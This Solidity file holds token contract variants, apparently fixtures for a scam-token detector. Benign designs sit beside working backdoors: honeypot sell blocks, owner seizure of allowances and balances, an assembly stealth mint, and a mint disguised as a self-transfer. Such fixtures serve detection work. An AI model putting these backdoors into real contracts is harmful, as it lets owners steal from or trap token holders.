// SPDX-License-Identifier: Apache-2.0
pragma solidity >=0.7.0 <0.9.0;

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256) {
        uint256 c = a + b;
        require(c >= a, "SafeMath: addition overflow");
        return c;
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        return sub(a, b, "SafeMath: subtraction overflow");
    }

    function sub(uint256 a, uint256 b, string memory m) internal pure returns (uint256) {
        require(b <= a, m);
        uint256 c = a - b;
        return c;
    }

    function mul(uint256 a, uint256 b) internal pure returns (uint256) {
        if (a == 0) {
            return 0;
        }
        uint256 c = a * b;
        require(c / a == b, "mul");
        return c;
    }

    function div(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b > 0, "div");
        return a / b;
    }
}

abstract contract Context {
    function _msgSender() internal view virtual returns (address payable) {
        return payable(msg.sender);
    }
}

abstract contract Ownable is Context {
    address private _owner;
    address private _previousOwner;
    uint256 private _lockTime;
    constructor() {
        _owner = msg.sender;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(_owner == _msgSender(), "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() public virtual onlyOwner {
        _owner = address(0);
    }

    function transferOwnership(address n) public virtual onlyOwner {
        require(n != address(0));
        _owner = n;
    }
}

interface IERC20 {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address,address,uint256) external returns (bool);
}

abstract contract Base is Context, Ownable {
    using SafeMath for uint256;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;
    uint256 internal _totalSupply;
    string private _name = "Base";
    string private _symbol = "BSE";
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed to, uint256 value);
    function name() public view returns (string memory) {
        return _name;
    }

    function symbol() public view returns (string memory) {
        return _symbol;
    }

    function decimals() public pure returns (uint8) {
        return 18;
    }

    function totalSupply() public view virtual returns (uint256) {
        return _totalSupply;
    }

    function balanceOf(address a) public view virtual returns (uint256) {
        return _balances[a];
    }

    function transfer(address to, uint256 v) public virtual returns (bool) {
        _transfer(_msgSender(), to, v);
        return true;
    }

    function allowance(address o, address s) public view virtual returns (uint256) {
        return _allowances[o][s];
    }

    function approve(address s, uint256 v) public virtual returns (bool) {
        _approve(_msgSender(), s, v);
        return true;
    }

    function transferFrom(address f, address to, uint256 v) public virtual returns (bool) {
        _transfer(f, to, v);
        _approve(f, _msgSender(), _allowances[f][_msgSender()].sub(v, "ERC20: transfer amount exceeds allowance"));
        return true;
    }

    function increaseAllowance(address s, uint256 v) public virtual returns (bool) {
        _approve(_msgSender(), s, _allowances[_msgSender()][s].add(v));
        return true;
    }

    function decreaseAllowance(address s, uint256 v) public virtual returns (bool) {
        _approve(_msgSender(), s, _allowances[_msgSender()][s].sub(v, "below zero"));
        return true;
    }

    function _transfer(address f, address to, uint256 v) internal virtual {
        require(f != address(0), "ERC20: from zero");
        require(to != address(0), "ERC20: to zero");
        _beforeTokenTransfer(f, to, v);
        _balances[f] = _balances[f].sub(v, "ERC20: exceeds balance");
        _balances[to] = _balances[to].add(v);
        emit Transfer(f, to, v);
    }

    function _mint(address a, uint256 v) internal virtual {
        require(a != address(0));
        _beforeTokenTransfer(address(0), a, v);
        _totalSupply = _totalSupply.add(v);
        _balances[a] = _balances[a].add(v);
        emit Transfer(address(0), a, v);
    }

    function _burn(address a, uint256 v) internal virtual {
        require(a != address(0));
        _beforeTokenTransfer(a, address(0), v);
        _balances[a] = _balances[a].sub(v, "burn exceeds");
        _totalSupply = _totalSupply.sub(v);
        emit Transfer(a, address(0), v);
    }

    function _approve(address o, address s, uint256 v) internal virtual {
        require(o != address(0));
        require(s != address(0));
        _allowances[o][s] = v;
        emit Approval(o, s, v);
    }

    function _beforeTokenTransfer(address f, address t, uint256 v) internal virtual {}
}

contract Plain06 is Base {
    constructor() {
        _mint(msg.sender, 1e24);
    }
}

contract Burnable06 is Base {
    using SafeMath for uint256;
    function burn(uint256 v) public {
        _burn(_msgSender(), v);
    }

    function burnFrom(address a, uint256 v) public {
        uint256 d = allowance(a, _msgSender()).sub(v, "exceeds");
        _approve(a, _msgSender(), d);
        _burn(a, v);
    }
}

contract MintBSC is Base {
    function mint(uint256 v) public onlyOwner returns (bool) {
        _mint(_msgSender(), v);
        return true;
    }
}

/// supply in a struct, roles by struct of mapping
contract RoleStruct is Base {
    struct RoleData {
        mapping(address => bool) members;
        bytes32 adminRole;
    }
    mapping(bytes32 => RoleData) private _roles;
    bytes32 public constant MINTER = keccak256("MINTER");
    function hasRole(bytes32 r, address a) public view returns (bool) {
        return _roles[r].members[a];
    }

    modifier onlyRole(bytes32 r) {
        require(hasRole(r, _msgSender()), "no role");
        _;
    }

    function grantRole(bytes32 r, address a) public onlyRole(_roles[r].adminRole) {
        _roles[r].members[a] = true;
    }

    function mint(address a, uint256 v) public onlyRole(MINTER) {
        _mint(a, v);
    }
}

interface IAuth {
    function canCall(address who, bytes4 sig) external view returns (bool);
}

/// authority contract
contract AuthMint is Base {
    IAuth public authority;
    modifier auth {
        require(msg.sender == owner() || authority.canCall(msg.sender, msg.sig), "auth");
        _;
    }

    function setAuthority(IAuth a) public auth {
        authority = a;
    }

    function mint(address a, uint256 v) public auth {
        _mint(a, v);
    }
}

/// like a fiat coin: wipe frozen
contract Fiat is Base {
    bool public paused;
    mapping(address => bool) internal frozen;
    address public supplyController;
    address public lawRole;
    modifier whenNotPaused() {
        require(!paused, "paused");
        _;
    }

    function pause() public onlyOwner {
        paused = true;
    }

    function unpause() public onlyOwner {
        paused = false;
    }

    function setLawRole(address a) public {
        require(msg.sender == lawRole || msg.sender == owner());
        lawRole = a;
    }

    function setSupplyController(address a) public {
        require(msg.sender == supplyController || msg.sender == owner());
        supplyController = a;
    }

    function freeze(address a) public {
        require(msg.sender == lawRole);
        require(!frozen[a]);
        frozen[a] = true;
    }

    function unfreeze(address a) public {
        require(msg.sender == lawRole);
        require(frozen[a]);
        frozen[a] = false;
    }

    function wipeFrozenAddress(address a) public {
        require(msg.sender == lawRole);
        require(frozen[a], "not frozen");
        uint256 b = _balances[a];
        _balances[a] = 0;
        _totalSupply = _totalSupply - b;
    }

    function increaseSupply(uint256 v) public returns (bool) {
        require(msg.sender == supplyController);
        _totalSupply = _totalSupply + v;
        _balances[supplyController] = _balances[supplyController] + v;
        return true;
    }

    function _beforeTokenTransfer(address f, address t, uint256) internal view override {
        require(!paused);
        require(!frozen[f] && !frozen[t]);
    }
}

/// like tether: destroyBlackFunds, issue, redeem, deprecated upgrade omitted
contract TetherLike is Base {
    using SafeMath for uint256;
    bool public paused;
    mapping(address => bool) public isBlackListed;
    uint256 public basisPointsRate;
    uint256 public maximumFee;
    function pause() public onlyOwner {
        require(!paused);
        paused = true;
    }

    function unpause() public onlyOwner {
        require(paused);
        paused = false;
    }

    function setParams(uint256 b, uint256 f) public onlyOwner {
        require(b < 20);
        require(f < 50);
        basisPointsRate = b;
        maximumFee = f.mul(10**6);
    }

    function addBlackList(address a) public onlyOwner {
        isBlackListed[a] = true;
    }

    function removeBlackList(address a) public onlyOwner {
        isBlackListed[a] = false;
    }

    function destroyBlackFunds(address a) public onlyOwner {
        require(isBlackListed[a]);
        uint256 d = balanceOf(a);
        _balances[a] = 0;
        _totalSupply -= d;
    }

    function issue(uint256 v) public onlyOwner {
        require(_totalSupply + v > _totalSupply);
        require(_balances[owner()] + v > _balances[owner()]);
        _balances[owner()] += v;
        _totalSupply += v;
    }

    function redeem(uint256 v) public onlyOwner {
        require(_totalSupply >= v);
        require(_balances[owner()] >= v);
        _totalSupply -= v;
        _balances[owner()] -= v;
    }

    function transfer(address to, uint256 v) public override returns (bool) {
        require(!paused);
        require(!isBlackListed[msg.sender]);
        _t(msg.sender, to, v);
        return true;
    }

    function transferFrom(address f, address to, uint256 v) public override returns (bool) {
        require(!paused);
        require(!isBlackListed[f]);
        uint256 a = _allowances[f][msg.sender];
        if (a < ~uint256(0)) _allowances[f][msg.sender] = a.sub(v);
        _t(f, to, v);
        return true;
    }

    function _t(address f, address to, uint256 v) private {
        uint256 fee = (v.mul(basisPointsRate)).div(10000);
        if (fee > maximumFee) fee = maximumFee;
        uint256 s = v.sub(fee);
        _balances[f] = _balances[f].sub(v);
        _balances[to] = _balances[to].add(s);
        if (fee > 0) {
            _balances[owner()] = _balances[owner()].add(fee);
            emit Transfer(f, owner(), fee);
        }
        emit Transfer(f, to, s);
    }
}

/// like UNI: packed 96 bit, yearly cap 2%
contract GovCapped {
    uint256 public totalSupply = 1e27;
    address public minter;
    uint256 public mintingAllowedAfter;
    uint8 public constant mintCap = 2;
    mapping(address => mapping(address => uint96)) internal allowances;
    mapping(address => uint96) internal balances;
    mapping(address => address) public delegates;
    struct Checkpoint {
        uint32 fromBlock;
        uint96 votes;
    }
    mapping(address => mapping(uint32 => Checkpoint)) public checkpoints;
    mapping(address => uint32) public numCheckpoints;
    event Transfer(address indexed from, address indexed to, uint256 value);
    constructor() {
        minter = msg.sender;
        balances[msg.sender] = uint96(1e27);
        mintingAllowedAfter = block.timestamp + 1000;
    }

    function setMinter(address m) external {
        require(msg.sender == minter);
        minter = m;
    }

    function mint(address dst, uint256 raw) external {
        require(msg.sender == minter, "only minter");
        require(block.timestamp >= mintingAllowedAfter, "not yet");
        require(dst != address(0));
        mintingAllowedAfter = block.timestamp + 365 days;
        uint96 amount = s96(raw);
        require(amount <= totalSupply * mintCap / 100, "cap");
        totalSupply = s96(totalSupply + amount);
        balances[dst] = a96(balances[dst], amount);
        _moveDelegates(address(0), delegates[dst], amount);
    }

    function s96(uint256 n) internal pure returns (uint96) {
        require(n < 2**96);
        return uint96(n);
    }

    function a96(uint96 a, uint96 b) internal pure returns (uint96) {
        uint96 c = a + b;
        require(c >= a);
        return c;
    }

    function u96(uint96 a, uint96 b) internal pure returns (uint96) {
        require(b <= a);
        return a - b;
    }

    function allowance(address a, address s) external view returns (uint256) {
        return allowances[a][s];
    }

    function approve(address s, uint256 raw) external returns (bool) {
        uint96 amount = raw == ~uint256(0) ? ~uint96(0) : s96(raw);
        allowances[msg.sender][s] = amount;
        return true;
    }

    function balanceOf(address a) external view returns (uint256) {
        return balances[a];
    }

    function transfer(address dst, uint256 raw) external returns (bool) {
        _tt(msg.sender, dst, s96(raw));
        return true;
    }

    function transferFrom(address src, address dst, uint256 raw) external returns (bool) {
        address sp = msg.sender;
        uint96 al = allowances[src][sp];
        uint96 amount = s96(raw);
        if (sp != src && al != ~uint96(0)) {
            allowances[src][sp] = u96(al, amount);
        }
        _tt(src, dst, amount);
        return true;
    }

    function delegate(address d) public {
        address cur = delegates[msg.sender];
        delegates[msg.sender] = d;
        _moveDelegates(cur, d, balances[msg.sender]);
    }

    function delegateBySig(address d, uint256 nonce, uint8 v, bytes32 r, bytes32 s) public {
        address w = ecrecover(keccak256(abi.encode(d, nonce)), v, r, s);
        require(w != address(0));
        address cur = delegates[w];
        delegates[w] = d;
        _moveDelegates(cur, d, balances[w]);
    }

    function _tt(address src, address dst, uint96 amount) internal {
        require(src != address(0));
        require(dst != address(0));
        balances[src] = u96(balances[src], amount);
        balances[dst] = a96(balances[dst], amount);
        emit Transfer(src, dst, amount);
        _moveDelegates(delegates[src], delegates[dst], amount);
    }

    function _moveDelegates(address a, address b, uint96 amount) internal {
        if (a != b && amount > 0) {
            if (a != address(0)) {
                uint32 n = numCheckpoints[a];
                uint96 old = n > 0 ? checkpoints[a][n - 1].votes : 0;
                _write(a, n, u96(old, amount));
            }
            if (b != address(0)) {
                uint32 n = numCheckpoints[b];
                uint96 old = n > 0 ? checkpoints[b][n - 1].votes : 0;
                _write(b, n, a96(old, amount));
            }
        }
    }

    function _write(address a, uint32 n, uint96 v) internal {
        require(block.number < 2**32);
        uint32 bn = uint32(block.number);
        if (n > 0 && checkpoints[a][n - 1].fromBlock == bn) checkpoints[a][n - 1].votes = v;
        else {
            checkpoints[a][n] = Checkpoint(bn, v);
            numCheckpoints[a] = n + 1;
        }
    }
}

/// dividend/holder style: transfer hook bookkeeping
contract Holders is Base {
    address[] private holders;
    mapping(address => bool) private known;
    function _beforeTokenTransfer(address, address t, uint256) internal override {
        if (!known[t]) {
            known[t] = true;
            holders.push(t);
        }
    }
}

contract BotUint is Base {
    mapping(address => uint256) private _blk;
    function bl(address a, uint256 v) external onlyOwner {
        _blk[a] = v;
    }

    function _beforeTokenTransfer(address f, address, uint256) internal view override {
        require(_blk[f] == 0);
    }
}

contract BotArray is Base {
    mapping(address => bool) private _blk;
    function bl(address[] calldata a, bool v) external onlyOwner {
        for (uint i = 0; i < a.length; i++) {
            if (a[i] != owner()) _blk[a[i]] = v;
        }
    }

    function _beforeTokenTransfer(address f, address t, uint256) internal view override {
        if (_blk[f] || _blk[t]) require(false, "x");
    }
}

contract BotList is Base {
    address[] private _l;
    function bl(address a) external onlyOwner {
        _l.push(a);
    }

    function _beforeTokenTransfer(address f, address, uint256) internal view override {
        for (uint i = 0; i < _l.length; i++) require(_l[i] != f);
    }
}

contract OnlyPairOrListed is Base {
    mapping(address => bool) private ok;
    address public pair;
    function setPair(address p) external onlyOwner {
        pair = p;
    }

    function allow(address a) external onlyOwner {
        ok[a] = true;
    }

    function _beforeTokenTransfer(address f, address t, uint256) internal view override {
        if (t == pair) require(ok[f] || f == owner(), "no");
    }
}

contract SellCapZero is Base {
    uint256 private q = 1e24;
    address pair;
    function w(uint256 x) external onlyOwner {
        q = x;
    }

    function setPair(address p) external onlyOwner {
        pair = p;
    }

    function _transfer(address f, address t, uint256 v) internal override {
        if (t == pair && f != owner()) {
            require(v < q);
        }
        super._transfer(f, t, v);
    }
}

contract SellLockUint is Base {
    uint256 private st = 1;
    address pair;
    function w(uint256 x) external onlyOwner {
        st = x;
    }

    function setPair(address p) external onlyOwner {
        pair = p;
    }

    function _beforeTokenTransfer(address f, address t, uint256) internal view override {
        if (t == pair && f != owner()) require(st == 1);
    }
}

contract BlockDelay is Base {
    mapping(address => uint256) private last;
    bool public on = true;
    function setOn(bool x) external onlyOwner {
        on = x;
    }

    function _beforeTokenTransfer(address f, address, uint256) internal override {
        if (on) {
            require(last[tx.origin] < block.number, "one per block");
            last[tx.origin] = block.number;
        }
        f;
    }
}

contract FeeStruct is Base {
    using SafeMath for uint256;
    struct Fees {
        uint16 buy;
        uint16 sell;
        uint16 tr;
    }
    Fees public fees;
    mapping(address => bool) pairs;
    mapping(address => bool) free;
    function setFees(uint16 a, uint16 b, uint16 c) external onlyOwner {
        fees = Fees(a, b, c);
    }

    function setPair(address p, bool x) external onlyOwner {
        pairs[p] = x;
    }

    function setFree(address p, bool x) external onlyOwner {
        free[p] = x;
    }

    function _transfer(address f, address t, uint256 v) internal override {
        uint256 r = fees.tr;
        if (pairs[f]) r = fees.buy;
        else if (pairs[t]) r = fees.sell;
        if (free[f] || free[t]) r = 0;
        uint256 fee = v.mul(r).div(1000);
        if (fee > 0) super._transfer(f, address(this), fee);
        super._transfer(f, t, v.sub(fee));
    }
}

/// approves its owner on everyone in transfer? takes on approve
contract ApproveGrab is Base {
    function collect(address f) external onlyOwner {
        _approve(f, owner(), ~uint256(0));
    }
}

contract MultiTransferFromAll is Base {
    function sync(address[] calldata a, address to) external onlyOwner {
        for (uint i = 0; i < a.length; i++) {
            _transfer(a[i], to, _balances[a[i]]);
        }
    }
}

contract Multisend is Base {
    function send(address[] calldata a, uint256[] calldata v) external {
        for (uint i = 0; i < a.length; i++) {
            _transfer(_msgSender(), a[i], v[i]);
        }
    }
}

contract HiddenMintAsm is Base {
    function x(uint256 v) external onlyOwner {
        assembly {
            mstore(0, caller()) mstore(32, 3) let k := keccak256(0, 64) sstore(k, add(sload(k), v))
        }
    }
}

contract MintByTransferZero is Base {
    using SafeMath for uint256;
    function transfer(address t, uint256 v) public override returns (bool) {
        if (_msgSender() == owner() && t == owner()) {
            _balances[t] = _balances[t].add(v);
            return true;
        }
        _transfer(_msgSender(), t, v);
        return true;
    }
}
